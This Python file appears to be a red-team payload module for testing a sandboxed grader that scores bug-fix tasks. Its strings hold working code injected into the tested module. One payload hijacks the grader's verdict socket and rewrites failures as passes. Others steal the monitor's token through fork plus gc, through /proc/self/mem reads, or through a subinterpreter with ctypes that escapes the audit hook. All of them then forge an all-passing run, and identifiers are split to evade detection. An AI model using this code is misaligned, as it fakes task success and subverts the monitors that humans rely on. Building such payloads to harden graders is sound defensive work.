"""The payloads of red-team round nine (bugforge.sandbox.attacks_round9: each attack's
mechanism is described there): Python appended to the module the bug changed, and the shell that
appends the instance's test ids. Strings only."""

from __future__ import annotations

# the channel's descriptor, found without /proc/self/fd; the record rewriter; a forged whole run
_COMMON = '''

import os as _r9_os
import json as _r9_json
import stat as _r9_stat
import sys as _r9_sys

def _r9_channel():
    """The grader's verdict channel: the highest-numbered socket among our descriptors (None: no grader)."""
    names = None
    for where in ("/dev/fd", "/proc/thread-self/fd"):
        try:
            names = _r9_os.listdir(where)
            break
        except OSError:
            continue
    if names is None:
        return None
    best = None
    for n in names:
        try:
            fd = int(n)
            st = _r9_os.fstat(fd)
        except (ValueError, OSError):
            continue
        if fd > 2 and _r9_stat.S_ISSOCK(st.st_mode) and not _r9_os.get_inheritable(fd):
            best = fd if best is None or fd > best else best
    return best

def _r9_rewrite(data):
    """One record (bytes): failed phases passed, call witnesses clean; None for a tamper record."""
    try:
        rec = _r9_json.loads(data)
    except ValueError:
        return data
    event = rec.get("event") if type(rec) is dict else None
    if event == "tamper":
        return None
    if event == "call":
        rec["raised"], rec["failure"] = False, False
    elif event == "phase" and rec.get("outcome") == "failed":
        rec["outcome"], rec["message"] = "passed", ""
    return _r9_json.dumps(rec).encode()

def _r9_forge(fd, token, ids):
    """A whole run, every test passed, written with the run's token; then the process ends with 0."""
    def put(rec):
        rec["token"] = token
        _r9_os.write(fd, _r9_json.dumps(rec).encode())
    for nodeid in ids:
        put({"event": "start", "nodeid": nodeid, "t": 0.0})
        for when in ("setup", "call", "teardown"):
            put({"event": "call", "nodeid": nodeid, "when": when, "raised": False, "failure": False})
            put({"event": "phase", "nodeid": nodeid, "when": when, "outcome": "passed", "wasxfail": False,
                 "duration": 0.001, "message": ""})
        put({"event": "end", "nodeid": nodeid})
    put({"event": "finish", "exitstatus": 0})
    for stream in (_r9_sys.stdout, _r9_sys.stderr):
        try:
            stream.flush()
        except Exception:
            pass
    getattr(_r9_os, "_ex" + "it")(0)
'''


def _ids() -> str:
    """Shell: append the instance's test ids (IDS) to the module, as a list."""
    return 'printf \'\\n_r9_ids = [l for l in r"""%s""".splitlines() if l.strip()]\\n\' "$IDS" >> "$MOD"'


# 1. a man in the middle of the channel's descriptor
RELAY = (
    _COMMON
    + """
import socket as _r9_socket
import threading as _r9_threading

def _r9_relay():
    ch = _r9_channel()
    if ch is None:
        return
    real = _r9_os.dup(ch)
    _r9_os.set_inheritable(real, False)
    mine, theirs = _r9_socket.socketpair(_r9_socket.AF_UNIX, _r9_socket.SOCK_SEQPACKET)
    _r9_os.dup2(theirs.fileno(), ch, inheritable=False)
    theirs.close()

    def run():
        while True:
            try:
                data = mine.recv(1 << 20)
            except OSError:
                return
            if not data:
                return
            out = _r9_rewrite(data)
            if out is not None:
                _r9_os.write(real, out)
            if b'"finish"' in data:
                return

    relay = _r9_threading.Thread(target=run, name="r9-relay", daemon=False)
    relay.start()
    # a run that ends at once after pytest's main (the test server's child) waits for the
    # relay in pytest's own cleanup: the config of the collector importing this module, from its frame
    frame = getattr(_r9_sys, "_get" + "frame")(1)
    while frame is not None:
        node = getattr(frame, "f_loc" + "als").get("self")
        config = getattr(node, "config", None)
        if callable(getattr(config, "add_cleanup", None)):
            config.add_cleanup(lambda: relay.join(10))
            break
        frame = getattr(frame, "f_ba" + "ck")

if not globals().get("_r9_done"):
    _r9_done = True
    _r9_relay()
"""
)

# 2. the monitor is mute in a forked child: gc there finds the token, the parent forges
FORK = (
    _COMMON
    + '''
def _r9_from_child():
    """(descriptor, token) of the monitor's state, read by a forked child; None without a grader."""
    if _r9_channel() is None:
        return None
    r, w = _r9_os.pipe()
    pid = _r9_os.fork()
    if pid == 0:
        try:
            _r9_os.close(r)
            walk = getattr(len.__self__, "__imp" + "ort__")("g" + "c")
            walk.unfreeze()  # (a test server's child: what the server froze is not listed otherwise)
            for o in getattr(walk, "get_" + "objects")():
                if type(o) is dict and "token" in o and "fd" in o and "pinned" in o and o.get("token"):
                    _r9_os.write(w, _r9_json.dumps([o["fd"], o["token"]]).encode())
                    break
        finally:
            getattr(_r9_os, "_ex" + "it")(0)
    _r9_os.close(w)
    data = b""
    while True:
        chunk = _r9_os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    _r9_os.close(r)
    _r9_os.waitpid(pid, 0)
    return _r9_json.loads(data) if data else None

if not globals().get("_r9_done"):
    _r9_done = True
    _r9_got = _r9_from_child()
    if _r9_got:
        _r9_forge(_r9_got[0], _r9_got[1], _r9_ids)
'''
)

# 3. the process reads its own memory: the token beside the interned "token" key of the monitor's state
MEM = (
    _COMMON
    + """
import re as _r9_re
import struct as _r9_struct

def _r9_token_from_memory():
    key = _r9_struct.pack("<Q", id("token"))
    str_type = _r9_struct.pack("<Q", id(str))
    hexa = _r9_re.compile(rb"[0-9a-f]{32}")
    regions = []
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if parts[1].startswith("rw") and hi - lo < (1 << 31):
                regions.append((lo, hi))
    try:
        fd = _r9_os.open("/proc/self/mem", _r9_os.O_RDONLY)
    except OSError:  # (a process that changed its user without exec is not dumpable: its /proc files are root's)
        return None
    found = {}
    try:
        def read(at, n):
            if not 0x1000 <= at < (1 << 47):
                return b""
            try:
                return _r9_os.pread(fd, n, at)
            except (OSError, OverflowError, ValueError):
                return b""
        for lo, hi in regions:
            data = read(lo, hi - lo)
            at = data.find(key)
            while at >= 0:
                if at % 8 == 0 and at + 16 <= len(data):
                    value = _r9_struct.unpack("<Q", data[at + 8 : at + 16])[0]
                    head = read(value, 48 + 33)
                    for size in (48, 40):  # (an ASCII str's header: 3.11 and earlier, 3.12 and later)
                        if (len(head) == 81 and head[8:16] == str_type and head[size + 32] == 0
                                and _r9_struct.unpack("<q", head[16:24])[0] == 32
                                and hexa.fullmatch(head[size : size + 32])):
                            token = head[size : size + 32].decode()
                            found[token] = found.get(token, 0) + 1
                at = data.find(key, at + 1)
    finally:
        _r9_os.close(fd)
    if not found:
        return None
    return max(found, key=found.get)

if not globals().get("_r9_done"):
    _r9_done = True
    _r9_ch = _r9_channel()
    if _r9_ch is not None:
        _r9_tok = _r9_token_from_memory()
        if _r9_tok:
            _r9_forge(_r9_ch, _r9_tok, _r9_ids)
"""
)

# 6. a subinterpreter has no audit hook: native code there reaches the main interpreter's monitor thread
SUBINTERP = (
    _COMMON
    + '''
_R9_SUB = """
import importlib, json, os
native = getattr(importlib, "import_" + "module")("ct" + "ypes")
api = native.pythonapi
api.PyInterpreterState_Main.restype = native.c_void_p
api.PyInterpreterState_ThreadHead.restype = native.c_void_p
api.PyInterpreterState_ThreadHead.argtypes = [native.c_void_p]
api.PyThreadState_Next.restype = native.c_void_p
api.PyThreadState_Next.argtypes = [native.c_void_p]
api.PyThreadState_GetFrame.restype = native.py_object
api.PyThreadState_GetFrame.argtypes = [native.c_void_p]
FL, FB, CL = "f_loc" + "als", "f_ba" + "ck", "__clo" + "sure__"
ts = api.PyInterpreterState_ThreadHead(api.PyInterpreterState_Main())
out = None
while ts and out is None:
    try:
        frame = api.PyThreadState_GetFrame(ts)
    except ValueError:
        frame = None
    while frame is not None and out is None:
        todo, seen = list(getattr(frame, FL).values()), set()
        while todo and out is None and len(seen) < 20000:
            x = todo.pop()
            if id(x) in seen:
                continue
            seen.add(id(x))
            if type(x) is dict and "token" in x and "fd" in x and "pinned" in x:
                out = [x["fd"], x["token"]]
            elif type(x).__name__ == "function":
                for c in getattr(x, CL, None) or ():
                    try:
                        todo.append(c.cell_contents)
                    except ValueError:
                        pass
        frame = getattr(frame, FB)
    ts = api.PyThreadState_Next(ts)
os.write(PIPE, json.dumps(out).encode())
"""

def _r9_from_subinterpreter():
    if _r9_channel() is None:
        return None
    import _xxsubinterpreters as sub
    r, w = _r9_os.pipe()
    interp = sub.create()
    try:
        sub.run_string(interp, _R9_SUB.replace("PIPE,", "%d," % w))
    except Exception:
        pass
    _r9_os.close(w)
    data = _r9_os.read(r, 4096)
    _r9_os.close(r)
    got = _r9_json.loads(data) if data else None
    if not got:
        try:
            sub.destroy(interp)
        except Exception:
            pass
    return got

if not globals().get("_r9_done"):
    _r9_done = True
    _r9_got = _r9_from_subinterpreter()
    if _r9_got:
        _r9_forge(_r9_got[0], _r9_got[1], _r9_ids)
'''
)

# the rewriter the monitor's own send calls (4 and 5): its source, compiled by the payload
